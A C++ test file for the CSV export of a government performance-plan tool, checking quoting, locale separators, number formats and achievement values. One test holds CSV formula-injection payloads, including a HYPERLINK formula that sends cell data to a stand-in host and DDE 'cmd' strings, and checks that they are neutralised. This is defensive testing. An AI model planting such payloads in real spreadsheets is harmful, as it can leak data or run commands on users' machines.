// Tests of the CSV export (core/csv_export.h) on the built-in plan: the output is read back with an independent
// RFC 4180 reader written here, the 90 seed targets are compared with the seed document read from its markdown
// (not from the plan), numbers are checked to be bare numbers in the locale, and capaian against the core rule
// and hand-worked values.
#include <doctest/doctest.h>

#include <algorithm>

#include <cmath>
#include <cstdlib>
#include <fstream>
#include <map>
#include <sstream>

#include "core/achievement.h"
#include "core/builtin_plan.h"
#include "core/csv_export.h"

using namespace tolok;

namespace {

using Row = std::vector<std::string>;

// A strict RFC 4180 reader: optional UTF-8 BOM, `sep` between fields, CRLF after every record (a bare LF outside
// quotes fails the test), quoted fields with doubled quotes.
#define CSV_EXPECT(cond, msg) \
    do {                      \
        if (!(cond)) FAIL(msg); \
    } while (0)
std::vector<Row> read_csv(const std::string& text, char sep) {
    std::vector<Row> rows;
    size_t i = text.compare(0, 3, "\xEF\xBB\xBF") == 0 ? 3 : 0;
    Row row;
    std::string cell;
    bool quoted = false, was_quoted = false;
    for (; i < text.size(); ++i) {
        char c = text[i];
        if (quoted) {
            if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') { cell += '"'; ++i; }
            else if (c == '"') quoted = false;
            else cell += c;
            continue;
        }
        if (c == '"') {
            CSV_EXPECT(cell.empty(), "quote inside an unquoted field");
            CSV_EXPECT(!was_quoted, "two quoted parts in one field");
            quoted = was_quoted = true;
        } else if (c == sep) {
            row.push_back(cell);
            cell.clear();
            was_quoted = false;
        } else if (c == '\r') {
            CSV_EXPECT((i + 1 < text.size() && text[i + 1] == '\n'), "CR not followed by LF");
            ++i;
            row.push_back(cell);
            rows.push_back(row);
            row.clear();
            cell.clear();
            was_quoted = false;
        } else {
            CSV_EXPECT(c != '\n', "bare LF outside quotes");
            CSV_EXPECT(!was_quoted, "text after a closing quote");
            cell += c;
        }
    }
    CSV_EXPECT(!quoted, "unterminated quote");
    CSV_EXPECT((cell.empty() && row.empty()), "last record without CRLF");
    return rows;
}

// A bare spreadsheet number in the locale: optional '-', digits, optionally the decimal separator and digits;
// no thousands separator, no unit, no '%'. Returns false otherwise.
bool bare_number(const std::string& s, char decimal, double* out) {
    size_t i = 0;
    if (i < s.size() && s[i] == '-') ++i;
    size_t digits = 0, point = 0;
    std::string c_locale = s.substr(0, i);
    for (; i < s.size(); ++i) {
        if (s[i] >= '0' && s[i] <= '9') { ++digits; c_locale += s[i]; }
        else if (s[i] == decimal && point == 0 && digits > 0 && i + 1 < s.size()) { ++point; c_locale += '.'; }
        else return false;
    }
    if (digits == 0) return false;
    if (out) *out = std::strtod(c_locale.c_str(), nullptr);
    return true;
}

double number_in(const std::string& cell, CsvLocale locale) {
    double v = NAN;
    bool ok = bare_number(cell, locale == CsvLocale::Id ? ',' : '.', &v);
    CAPTURE(cell);
    REQUIRE(ok);
    return v;
}

size_t column(const Row& header, const std::string& name) {
    for (size_t i = 0; i < header.size(); ++i)
        if (header[i] == name) return i;
    FAIL("no column " << name);
    return 0;
}

// The seed's Lampiran rows (Sasaran, Indikator, Rumus, six targets 2018-2023) read straight from the document.
std::vector<Row> seed_lampiran_rows() {
    std::ifstream f(TOLOK_SEED_MD);
    REQUIRE(f.good());
    std::vector<Row> rows;
    std::string line;
    bool in_table = false;
    while (std::getline(f, line)) {
        if (line.rfind("Sasaran\tIndikator Sasaran", 0) == 0) { in_table = true; continue; }
        if (!in_table || line.find('\t') == std::string::npos) continue;
        Row cells;
        std::stringstream ss(line);
        std::string cell;
        while (std::getline(ss, cell, '\t')) cells.push_back(cell);
        if (cells.size() == 9 && cells[1] != "2" && cells[3] != "2018") rows.push_back(cells);
    }
    return rows;
}

// Leading number of a seed target as printed ("20 prd" -> 20, "70%" -> 70); none for grades ("B", "BB").
std::optional<double> leading_number(const std::string& printed) {
    if (printed.empty() || printed[0] < '0' || printed[0] > '9') return std::nullopt;
    return std::strtod(printed.c_str(), nullptr);
}

Indicator& indicator(Plan& p, const char* id) {
    Indicator* ind = find_indicator(p, id);
    REQUIRE(ind != nullptr);
    return *ind;
}

const Row& row_with(const std::vector<Row>& rows, size_t col, const std::string& value) {
    for (const auto& r : rows)
        if (r.size() > col && r[col] == value) return r;
    FAIL("no row with " << value);
    return rows.front();
}

}  // namespace

TEST_SUITE("csv") {

TEST_CASE("csv: the IKU table holds all 90 seed targets, as printed and as bare numbers") {
    Plan p = builtin_plan();
    auto seed = seed_lampiran_rows();
    REQUIRE(seed.size() == 15);
    for (CsvLocale locale : {CsvLocale::Id, CsvLocale::En}) {
        CAPTURE(locale == CsvLocale::Id ? "id" : "en");
        auto rows = read_csv(export_csv(p, CsvTable::Iku, locale, 0, Lang::Id), locale == CsvLocale::Id ? ';' : ',');
        REQUIRE(rows.size() == 16);  // header + 15 indicators
        const Row& h = rows[0];
        CHECK(h[0] == "No");
        CHECK(h[1] == "Sasaran");
        CHECK(h[2] == "Indikator");
        for (const auto& r : rows) CHECK(r.size() == h.size());
        size_t found = 0;
        std::string objective;
        for (size_t i = 0; i < seed.size(); ++i) {
            const Row& s = seed[i];
            const Row& r = rows[i + 1];
            CAPTURE(s[1]);
            if (!s[0].empty()) objective = s[0];
            CHECK(r[column(h, "No")] == std::to_string(i + 1));
            CHECK(r[column(h, "Sasaran")] == objective);
            CHECK(r[column(h, "Indikator")] == s[1]);
            for (int y = 0; y < 6; ++y) {
                std::string year = std::to_string(2018 + y);
                const std::string& printed = s[3 + y];
                CHECK(r[column(h, "Target " + year + " (teks)")] == printed);
                found += r[column(h, "Target " + year + " (teks)")] == printed;
                const std::string& num = r[column(h, "Target " + year)];
                if (auto n = leading_number(printed)) CHECK(number_in(num, locale) == doctest::Approx(*n));
                else CHECK(num.empty());  // grades stay out of the number column
            }
        }
        CHECK(found == 90);
    }
}

TEST_CASE("csv/xlsx: a whole-number code is a number cell (Excel sorts 1, 2, ..., 10), any other code stays text") {
    Plan p = builtin_plan();
    p.objectives[0].indicators[1].code = "1.10";
    p.objectives[0].indicators[2].code = "07";
    for (CsvTable table : {CsvTable::Iku, CsvTable::Targets, CsvTable::Capaian}) {
        const auto rows = export_table_rows(p, table, 2023, Lang::Id);
        size_t code_column = 0;
        while (code_column < rows[0].size() && rows[0][code_column].text != "No" && rows[0][code_column].text != "Kode") ++code_column;
        REQUIRE(code_column < rows[0].size());
        std::vector<std::string> texts;
        std::vector<double> numbers;
        for (size_t r = 1; r < rows.size(); ++r) {
            const TableCell& c = rows[r][code_column];
            if (c.kind == TableCell::Kind::Number) numbers.push_back(c.number);
            else texts.push_back(c.text);
        }
        CHECK(std::find(numbers.begin(), numbers.end(), 15.0) != numbers.end());
        CHECK(std::find(texts.begin(), texts.end(), "1.10") != texts.end());  // not 1,1
        CHECK(std::find(texts.begin(), texts.end(), "07") != texts.end());
    }
}

TEST_CASE("csv: the targets table in long format has one row per seed target") {
    Plan p = builtin_plan();
    auto seed = seed_lampiran_rows();
    auto rows = read_csv(export_csv(p, CsvTable::Targets, CsvLocale::Id, 0, Lang::Id), ';');
    REQUIRE(rows.size() == 91);
    const Row& h = rows[0];
    CHECK(h == Row{"Sasaran", "Kode", "Indikator", "Tahun", "Triwulan", "Target angka", "Satuan", "Target teks"});
    std::map<std::pair<std::string, std::string>, const Row*> by;  // (code, year) -> row
    for (size_t i = 1; i < rows.size(); ++i) by[{rows[i][1], rows[i][3]}] = &rows[i];
    for (size_t i = 0; i < seed.size(); ++i)
        for (int y = 0; y < 6; ++y) {
            auto it = by.find({std::to_string(i + 1), std::to_string(2018 + y)});
            REQUIRE(it != by.end());
            const Row& r = *it->second;
            CHECK(r[2] == seed[i][1]);
            CHECK(r[4].empty());  // yearly target: no quarter
            CHECK(r[7] == seed[i][3 + y]);
            if (auto n = leading_number(seed[i][3 + y])) CHECK(number_in(r[5], CsvLocale::Id) == doctest::Approx(*n));
            else CHECK(r[5].empty());
        }
    // Units: the satuan of indicator 6 is "prd", of the percentages "%".
    CHECK((*by[{"6", "2020"}])[6] == "prd");
    CHECK((*by[{"4", "2020"}])[6] == "%");

    // A quarter target adds a row with Triwulan 2.
    indicator(p, "i6").years[2023].quarter_targets[1] = parse_value("10 prd");
    rows = read_csv(export_csv(p, CsvTable::Targets, CsvLocale::En, 0, Lang::En), ',');
    REQUIRE(rows.size() == 92);
    CHECK(rows[0][4] == "Quarter");
    const Row& q = row_with(rows, 4, "2");
    CHECK(q[1] == "6");
    CHECK(q[3] == "2023");
    CHECK(q[5] == "10");
    CHECK(q[7] == "10 prd");
}

TEST_CASE("csv: separators, decimal comma or point, BOM and CRLF by locale") {
    Plan p = builtin_plan();
    indicator(p, "i6").years[2023].target = parse_value("12,5");
    indicator(p, "i9").years[2022].target = parse_value("Rp 1.250.000");
    std::string id = export_csv(p, CsvTable::Iku, CsvLocale::Id, 0, Lang::Id);
    std::string en = export_csv(p, CsvTable::Iku, CsvLocale::En, 0, Lang::En);
    CHECK(id.compare(0, 3, "\xEF\xBB\xBF") == 0);
    CHECK(id.compare(3, 3, "No;") == 0);
    CHECK(en.compare(0, 3, "No,") == 0);
    CHECK(en.find("\xEF\xBB\xBF") == std::string::npos);
    CHECK(id.substr(id.size() - 2) == "\r\n");
    CHECK(en.substr(en.size() - 2) == "\r\n");

    // 12,5 as typed: a decimal comma in id (no quoting needed with ';'), a point in en where the text "12,5" must
    // be quoted because it holds the separator.
    auto line_of = [](const std::string& csv, const std::string& starts) {
        size_t at = csv.find("\r\n" + starts);
        REQUIRE(at != std::string::npos);
        return csv.substr(at + 2, csv.find("\r\n", at + 2) - at - 2);
    };
    std::string id6 = line_of(id, "6;"), en6 = line_of(en, "6,");
    CHECK(id6.substr(id6.size() - 10) == ";12,5;12,5");
    CHECK(en6.substr(en6.size() - 12) == ",12.5,\"12,5\"");

    auto rid = read_csv(id, ';'), ren = read_csv(en, ',');
    CHECK(ren[0][column(ren[0], "Objective")] == "Objective");
    CHECK(row_with(rid, 0, "6")[column(rid[0], "Target 2023")] == "12,5");
    CHECK(row_with(ren, 0, "6")[column(ren[0], "Target 2023")] == "12.5");
    CHECK(row_with(ren, 0, "6")[column(ren[0], "Target 2023 (text)")] == "12,5");
    // Money: no thousands separators, no "Rp".
    CHECK(row_with(rid, 0, "9")[column(rid[0], "Target 2022")] == "1250000");
    CHECK(row_with(ren, 0, "9")[column(ren[0], "Target 2022")] == "1250000");
    CHECK(row_with(ren, 0, "9")[column(ren[0], "Target 2022 (text)")] == "Rp 1.250.000");

    CHECK(csv_number(12.5, CsvLocale::Id) == "12,5");
    CHECK(csv_number(12.5, CsvLocale::En) == "12.5");
    CHECK(csv_number(-5, CsvLocale::Id) == "-5");
    CHECK(csv_number(300000000, CsvLocale::Id) == "300000000");  // not 300000000,000001
    CHECK(csv_number(1550000000, CsvLocale::En) == "1550000000");
    CHECK(csv_number(1234567890123.0, CsvLocale::Id) == "1234567890123");
    CHECK(csv_number(1234567890123.45, CsvLocale::En) == "1234567890123.45");
    CHECK(csv_number(1234567.25, CsvLocale::Id) == "1234567,25");
    CHECK(csv_number(90.157142857, CsvLocale::En) == "90.157143");
    CHECK(csv_number(NAN, CsvLocale::En).empty());
}

TEST_CASE("csv: quoting of separators, quotes and line breaks (RFC 4180)") {
    Plan p = builtin_plan();
    const std::string name = "Sasaran; \"uji\", dengan\nbaris kedua";
    p.objectives[0].name = name;
    std::string id = export_csv(p, CsvTable::Iku, CsvLocale::Id, 0, Lang::Id);
    std::string en = export_csv(p, CsvTable::Iku, CsvLocale::En, 0, Lang::Id);
    const std::string quoted = "\"Sasaran; \"\"uji\"\", dengan\nbaris kedua\"";
    CHECK(id.find(";" + quoted + ";") != std::string::npos);
    CHECK(en.find("," + quoted + ",") != std::string::npos);
    auto rid = read_csv(id, ';'), ren = read_csv(en, ',');
    REQUIRE(rid.size() == 16);
    REQUIRE(ren.size() == 16);
    CHECK(rid[1][1] == name);
    CHECK(ren[3][1] == name);
    // A cell with only a comma is quoted in en but not in id.
    CHECK(csv_text_cell("a,b", CsvLocale::Id) == "a,b");
    CHECK(csv_text_cell("a,b", CsvLocale::En) == "\"a,b\"");
    CHECK(csv_text_cell("a;b", CsvLocale::Id) == "\"a;b\"");
    CHECK(csv_text_cell("a\rb", CsvLocale::En) == "\"a\rb\"");
}

TEST_CASE("csv: formula injection is neutralised, real numbers stay numbers") {
    Plan p = builtin_plan();
    const std::string link = "=HYPERLINK(\"http://contoh.invalid/?d=\"&A1;\"klik\")";
    indicator(p, "i1").name = link;
    indicator(p, "i2").name = "+cmd|' /C calc'!A0";
    indicator(p, "i3").name = "@SUM(1+1)";
    indicator(p, "i4").formula.text = "-2+3+cmd|' /C calc'!A0";
    indicator(p, "i5").name = "\t=1+1";
    indicator(p, "i11").years[2023].target = parse_value("-5%");
    for (CsvLocale locale : {CsvLocale::Id, CsvLocale::En}) {
        std::string csv = export_csv(p, CsvTable::Iku, locale, 0, Lang::Id);
        auto rows = read_csv(csv, locale == CsvLocale::Id ? ';' : ',');
        const Row& h = rows[0];
        // No cell of the whole table starts with a formula character unless it is a plain number.
        for (const auto& r : rows)
            for (const auto& cell : r) {
                CAPTURE(cell);
                if (!cell.empty() && std::string("=+-@\t\r").find(cell[0]) != std::string::npos)
                    CHECK((cell == "-" || bare_number(cell, locale == CsvLocale::Id ? ',' : '.', nullptr) ||
                           cell == "-5%"));
            }
        CHECK(row_with(rows, 0, "1")[2] == "'" + link);
        CHECK(row_with(rows, 0, "2")[2] == "'+cmd|' /C calc'!A0");
        CHECK(row_with(rows, 0, "3")[2] == "'@SUM(1+1)");
        CHECK(row_with(rows, 0, "4")[3] == "'-2+3+cmd|' /C calc'!A0");
        CHECK(row_with(rows, 0, "5")[2] == "'\t=1+1");
        const Row& r11 = row_with(rows, 0, "11");
        CHECK(r11[column(h, "Target 2023")] == "-5");       // a number, no apostrophe
        CHECK(r11[column(h, "Target 2023 (teks)")] == "-5%");  // a plain number with %, not a formula
    }
    CHECK(csv_text_cell("-", CsvLocale::Id) == "-");
    CHECK(csv_text_cell("-12,5", CsvLocale::Id) == "-12,5");
    CHECK(csv_text_cell("-x", CsvLocale::Id) == "'-x");
    CHECK(csv_text_cell("=1", CsvLocale::En) == "'=1");
    CHECK(csv_text_cell("a=1", CsvLocale::En) == "a=1");
}

TEST_CASE("csv: capaian numbers are the core's, empty when not computable") {
    Plan p = builtin_plan();
    indicator(p, "i6").years[2023].actual.value = parse_value("18 prd");   // 18 / 20 x 100 = 90 -> Tinggi
    indicator(p, "i5").years[2023].actual.value = parse_value("63,11 %");  // 63,11 / 80 x 100 = 78,8875
    indicator(p, "i2").years[2023].actual.value = parse_value("B");        // B against BB: rank 4 / 5 = 80
    for (CsvLocale locale : {CsvLocale::Id, CsvLocale::En}) {
        auto rows = read_csv(export_csv(p, CsvTable::Capaian, locale, 2023, Lang::Id), locale == CsvLocale::Id ? ';' : ',');
        REQUIRE(rows.size() == 16);
        const Row& h = rows[0];
        CHECK(h == Row{"Kode", "Sasaran", "Indikator", "Satuan", "Tahun", "Target", "Target (teks)", "Realisasi diisi",
                       "Realisasi diisi (teks)", "Realisasi dipakai", "Realisasi dipakai (teks)", "Capaian %", "Kategori",
                       "Penjelasan"});
        size_t cap = column(h, "Capaian %");
        const Row& r6 = row_with(rows, 0, "6");
        CHECK(number_in(r6[cap], locale) == doctest::Approx(90));
        CHECK(number_in(r6[column(h, "Target")], locale) == 20);
        CHECK(number_in(r6[column(h, "Realisasi diisi")], locale) == 18);  // typed, and so the one used
        CHECK(r6[column(h, "Realisasi diisi (teks)")] == "18 prd");
        CHECK(number_in(r6[column(h, "Realisasi dipakai")], locale) == 18);
        CHECK(r6[column(h, "Realisasi dipakai (teks)")] == "18 prd");
        CHECK(r6[column(h, "Kategori")] == "Tinggi");
        CHECK(r6[column(h, "Tahun")] == "2023");
        CHECK(r6[column(h, "Penjelasan")].find("90,00") != std::string::npos);
        CHECK(number_in(row_with(rows, 0, "5")[cap], locale) == doctest::Approx(78.8875));
        CHECK(number_in(row_with(rows, 0, "2")[cap], locale) == doctest::Approx(80));
        CHECK(row_with(rows, 0, "2")[column(h, "Target")].empty());  // grades: no number
        // Every row: the number equals compute_achievement's percent; empty exactly when not computable.
        for (size_t i = 1; i < rows.size(); ++i) {
            const Indicator* ind = nullptr;
            for (const auto& o : p.objectives)
                for (const auto& x : o.indicators)
                    if (x.code == rows[i][0]) ind = &x;
            REQUIRE(ind != nullptr);
            Achievement a = compute_achievement(p, *ind, 2023);
            CAPTURE(ind->code);
            if (a.percent) CHECK(number_in(rows[i][cap], locale) == doctest::Approx(*a.percent).epsilon(1e-9));
            else CHECK(rows[i][cap].empty());
            CHECK(rows[i][column(h, "Kategori")] == a.category);
        }
        const Row& r1 = row_with(rows, 0, "1");  // no realisasi
        CHECK(r1[cap].empty());
        CHECK(r1[column(h, "Kategori")].empty());
        CHECK(!r1[column(h, "Penjelasan")].empty());
    }
    auto en = read_csv(export_csv(p, CsvTable::Capaian, CsvLocale::En, 2023, Lang::En), ',');
    CHECK(en[0] == Row{"Code", "Objective", "Indicator", "Unit", "Year", "Target", "Target (text)", "Actual typed",
                       "Actual typed (text)", "Actual used", "Actual used (text)", "Achievement %", "Category", "Explanation"});
    CHECK(row_with(en, 0, "6")[column(en[0], "Explanation")].find("90.00") != std::string::npos);
}

TEST_CASE("csv: capaian by quarter: a row per quarter with a target or a realisasi, then the year's, with its quarter") {
    Plan p = builtin_plan();
    Indicator& six = indicator(p, "i6");  // 20 prd a year
    six.aggregation = Aggregation::Sum;
    six.years[2023].quarter_targets = {parse_value("5 prd"), parse_value("5 prd"), parse_value("5 prd"), parse_value("5 prd")};
    six.years[2023].quarter_actuals[0].value = parse_value("4 prd");
    six.years[2023].quarter_actuals[1].value = parse_value("5 prd");
    Indicator& five = indicator(p, "i5");  // its year's realisasi from the formula's components: 9 of 10 OPD
    five.years[2023].actual.components = {{"jumlah_type_opd", 9}, {"jumlah_opd", 10}};
    auto rows = read_csv(export_csv(p, CsvTable::CapaianQuarters, CsvLocale::Id, 2023, Lang::Id), ';');
    const Row& h = rows[0];
    CHECK(h == Row{"Kode", "Sasaran", "Indikator", "Satuan", "Tahun", "Triwulan", "Target", "Target (teks)",
                   "Realisasi diisi", "Realisasi diisi (teks)", "Realisasi dipakai", "Realisasi dipakai (teks)", "Capaian %",
                   "Kategori", "Penjelasan"});
    const size_t typed = column(h, "Realisasi diisi (teks)"), used = column(h, "Realisasi dipakai (teks)");
    std::vector<Row> sixes;
    for (const Row& r : rows)
        if (r[0] == "6") sixes.push_back(r);
    REQUIRE(sixes.size() == 5);  // TW I-IV (each has a target), then the year
    const size_t quarter = column(h, "Triwulan"), cap = column(h, "Capaian %");
    CHECK(sixes[0][quarter] == "1");
    CHECK(number_in(sixes[0][cap], CsvLocale::Id) == doctest::Approx(80));  // 4 of 5
    CHECK(number_in(sixes[1][cap], CsvLocale::Id) == doctest::Approx(100));
    CHECK(sixes[2][cap].empty());  // TW III: no realisasi yet
    CHECK(sixes[4][quarter].empty());  // the year
    CHECK(sixes[4][column(h, "Target (teks)")] == "20 prd");
    CHECK(sixes[1][typed] == "5 prd");
    CHECK(sixes[1][used] == "5 prd");
    CHECK(sixes[4][typed].empty());  // nothing typed for the year
    CHECK(sixes[4][column(h, "Realisasi diisi")].empty());
    // Computed from the components: used, not typed.
    const Row& r5 = row_with(rows, 0, "5");
    CHECK(r5[typed].empty());
    CHECK(r5[column(h, "Realisasi diisi")].empty());
    CHECK(r5[used] == "90 %");
    CHECK(number_in(r5[column(h, "Realisasi dipakai")], CsvLocale::Id) == doctest::Approx(90));
    // An indicator with nothing in its quarters: the year's row alone.
    size_t ones = 0;
    for (const Row& r : rows) ones += r[0] == "1";
    CHECK(ones == 1);
    CHECK(table_sheet_name(CsvTable::CapaianQuarters, 2023, Lang::Id) == "Capaian TW 2023");
}

TEST_CASE("csv: several plans get an office column; the IKU years are the union of the periods") {
    Plan a = builtin_plan();
    Plan b = builtin_plan();
    b.id = "lain";
    b.office.name = "Dinas Lain";
    b.start_year = 2024;
    b.end_year = 2026;
    b.objectives.resize(1);
    b.objectives[0].indicators.resize(1);
    b.objectives[0].indicators[0].years.clear();
    b.objectives[0].indicators[0].years[2025].target = parse_value("7,5 %");
    auto rows = read_csv(export_csv(std::vector<Plan>{a, b}, CsvTable::Iku, CsvLocale::Id, 0, Lang::Id), ';');
    REQUIRE(rows.size() == 17);
    const Row& h = rows[0];
    CHECK(h[0] == "Instansi");
    CHECK(h[column(h, "Target 2018")] == "Target 2018");
    CHECK(h[column(h, "Target 2026 (teks)")] == "Target 2026 (teks)");
    CHECK(rows[1][0] == "Sekretariat Daerah");
    const Row& last = rows[16];
    CHECK(last[0] == "Dinas Lain");
    CHECK(last[column(h, "Target 2025")] == "7,5");
    CHECK(last[column(h, "Target 2025 (teks)")] == "7,5 %");
    CHECK(last[column(h, "Target 2018")].empty());
    // One plan: no office column.
    auto single = read_csv(export_csv(std::vector<Plan>{a}, CsvTable::Iku, CsvLocale::Id, 0, Lang::Id), ';');
    CHECK(single[0][0] == "No");
}

}  // TEST_SUITE

TEST_CASE("csv_quoted: RFC 4180 only where the field needs it") {
    CHECK(csv_quoted("plain", ';') == "plain");
    CHECK(csv_quoted("a,b", ';') == "a,b");
    CHECK(csv_quoted("a,b", ',') == "\"a,b\"");
    CHECK(csv_quoted("say \"hi\"", ',') == "\"say \"\"hi\"\"\"");
    CHECK(csv_quoted("two\nlines", ';') == "\"two\nlines\"");
}
